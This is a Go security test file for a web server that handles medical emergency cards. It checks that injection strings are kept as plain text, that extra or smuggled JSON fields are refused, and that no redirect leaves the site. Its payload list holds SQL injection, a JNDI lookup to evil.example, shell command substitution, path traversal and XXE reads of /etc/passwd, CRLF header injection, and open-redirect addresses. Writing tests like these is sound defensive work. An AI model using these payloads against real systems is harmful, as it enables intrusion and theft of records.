//go:build linux

package faults

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/locket-health/locket/audit"
)

// injections are pieces of the languages that stand behind a server.
var injections = []string{
	`' OR '1'='1`, `'; DROP TABLE audit_entry; --`, `") UNION SELECT * FROM sqlite_master --`, `%' AND 1=CAST((SELECT 1) AS INT) --`, "x\x00y", "../../../../etc/passwd",
	`..\..\windows\win.ini`, "\r\nSet-Cookie: a=b", "\nlevel=ERROR msg=forged", `time=2026-01-01 level=INFO msg="request"`, "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(touch /tmp/owned)",
	"`id`", "|id", "%0d%0aX: y", "%s%s%n", "\u2028", "\ufeff", strings.Repeat("A", 199), "\U0001F691", "*)(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
}

// A13: whatever a responder types is kept as text: no answer is a failure of the server, no header and no log line is theirs, and the log holds.
func TestInjectionsAreText(t *testing.T) {
	t.Parallel()
	h := newHouse(t, "")
	c := listed(t, h.issue(t, household()))[0]
	s := h.serve(t)
	h.secrets = append(h.secrets, "evil.example", "forged", "sqlite_master")
	granted := 0
	for _, injection := range injections {
		for _, field := range []string{"secret", "step", "reason", "reason_text", "name", "role", "organization", "callback", "country", "grant"} {
			request := opening(c)
			request[field] = injection
			got, err := s.post("/v1/cards/"+c.ID+"/open", request)
			switch {
			case err != nil || got.status != http.StatusOK && got.status != http.StatusBadRequest && got.status != http.StatusForbidden:
				t.Errorf("%q as %s: %v, status %d %s", injection, field, err, got.status, got.body)
			case got.status == http.StatusOK:
				granted++
			}
			if got.header.Get("Set-Cookie") != "" || got.header.Get("X") != "" {
				t.Errorf("%q as %s: a header is theirs: %v", injection, field, got.header)
			}
		}
		for _, path := range []string{"/c/", "/v1/cards/", "/static/", "/audit/log/tile/", "/patients/", "/"} {
			got, err := s.ask("GET", path+url.PathEscape(injection), nil, "Accept", "text/html", "User-Agent", strings.Map(visible, injection), "Accept-Language", strings.Map(visible, injection),
				"X-Forwarded-For", strings.Map(visible, injection))
			if err != nil || got.status >= 500 || got.header.Get("Set-Cookie") != "" {
				t.Errorf("GET %s%q: %v, status %d", path, injection, err, got.status)
			}
		}
		got, err := s.post("/v1/short-code", map[string]string{"code": injection})
		if err != nil || got.status != http.StatusNotFound {
			t.Errorf("%q as a short code: %v, status %d %s", injection, err, got.status, got.body)
		}
	}
	if code := s.stop(t); code != 0 {
		t.Errorf("exit code %d", code)
	}
	if n := count(h.entries(t), audit.GlassOpened); n != granted || granted < len(injections) {
		t.Errorf("%d openings are in the log, %d were granted", n, granted)
	}
}

// visible keeps what can stand in a header.
func visible(r rune) rune {
	if r < ' ' || r > '~' {
		return -1
	}
	return r
}

// A14: what two readers could read in two ways, and what nobody asked for, is refused.
func TestMassAssignmentIsRefused(t *testing.T) {
	t.Parallel()
	h := newHouse(t, "")
	c := listed(t, h.issue(t, household()))[0]
	s := h.serve(t)
	_, session := s.signUp(t)
	open, secret := "/v1/cards/"+c.ID+"/open", c.secret()
	for _, test := range []struct{ name, path, body string }{
		{"a name that is not asked for", open, `{"secret":"` + secret + `","reason":"unconscious","patient":"x"}`},
		{"more than is asked for", open, `{"secret":"` + secret + `","reason":"unconscious","sections":["private_notes"]}`},
		{"a name twice", open, `{"secret":"` + secret + `","reason":"unconscious","step":"critical","step":"sensitive"}`},
		{"a name in capitals", open, `{"secret":"` + secret + `","reason":"unconscious","STEP":"sensitive"}`},
		{"a name in another case beside it", open, `{"secret":"` + secret + `","reason":"unconscious","step":"critical","Step":"sensitive"}`},
		{"a name with a long s", open, `{"ſecret":"` + secret + `","reason":"unconscious"}`},
		{"another type", open, `{"secret":["` + secret + `"],"reason":"unconscious"}`},
		{"two values", open, `{"secret":"` + secret + `","reason":"unconscious"}{}`},
		{"a list", open, `[{"secret":"` + secret + `","reason":"unconscious"}]`},
		{"nothing", open, ``},
		{"null", open, `null`},
		{"a role at sign-up", "/v1/signup/begin", `{"name":"Eve","role":"operator"}`},
		{"an account at sign-up", "/v1/signup/begin", `{"name":"Eve","account":"x"}`},
		{"a way to skip the touch", "/v1/approve/begin", `{"kind":"verify","target":"","verified":true}`},
		{"a state of status", "/v1/cards/" + c.ID + "/status", `{"tag":"AAAAAAAAAAAAAAAAAAAAAA","status":"revoked"}`},
	} {
		got, err := s.ask("POST", test.path, []byte(test.body), "Content-Type", "application/json", "Cookie", session, "X-Forwarded-For", someone())
		if err != nil || got.status != http.StatusBadRequest || got.problem() != "invalid" {
			t.Errorf("%s: %v, status %d, want 400: %s", test.name, err, got.status, got.body)
		}
	}
	for _, kind := range []string{"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/jsonp", "application/json-patch+json"} {
		got, err := s.ask("POST", open, []byte(`{"secret":"`+secret+`","reason":"unconscious"}`), "Content-Type", kind, "X-Forwarded-For", someone())
		if err != nil || got.status != http.StatusBadRequest {
			t.Errorf("as %q: %v, status %d, want 400", kind, err, got.status)
		}
	}
	if _, got, err := s.open(c); err != nil || got.status != http.StatusOK {
		t.Errorf("the ordinary request: %v, status %d", err, got.status)
	}
}

// A9: no address makes the server send anybody to another place.
func TestNobodyIsSentElsewhere(t *testing.T) {
	t.Parallel()
	h := newHouse(t, "")
	s := h.serve(t)
	paths := []string{"//evil.example", "///evil.example/", "/\\evil.example", "/%2f%2fevil.example", "/%5cevil.example", "/c//evil.example", "/.//evil.example", "/..//evil.example",
		"/signin?next=https://evil.example", "/home?return=//evil.example", "/c/a?to=https://evil.example", "/home", "/signin/", "/patients/../../evil.example", "/@evil.example", "/;@evil.example"}
	for _, path := range paths {
		for _, host := range []string{"", "evil.example", "localhost@evil.example", "evil.example#"} {
			for _, method := range []string{"GET", "HEAD", "POST"} {
				header := []string{"Accept", "text/html", "X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "javascript", "Referer", "https://evil.example/"}
				// The address is sent as it stands here, not as a client would tidy it.
				request := &http.Request{Method: method, URL: &url.URL{Scheme: "http", Host: s.address, Opaque: path}, Host: host, Header: http.Header{}}
				got, err := s.send(request, header...)
				if err != nil || got.status >= 500 {
					t.Errorf("%s %s of host %q: %v, status %d", method, path, host, err, got.status)
					continue
				}
				to, err := url.Parse(got.header.Get("Location"))
				if err != nil || to.Host != "" || to.Scheme != "" || strings.HasPrefix(got.header.Get("Location"), "//") || strings.Contains(got.header.Get("Location"), `\`) {
					t.Errorf("%s %s of host %q is sent to %q", method, path, host, got.header.Get("Location"))
				}
			}
		}
	}
}
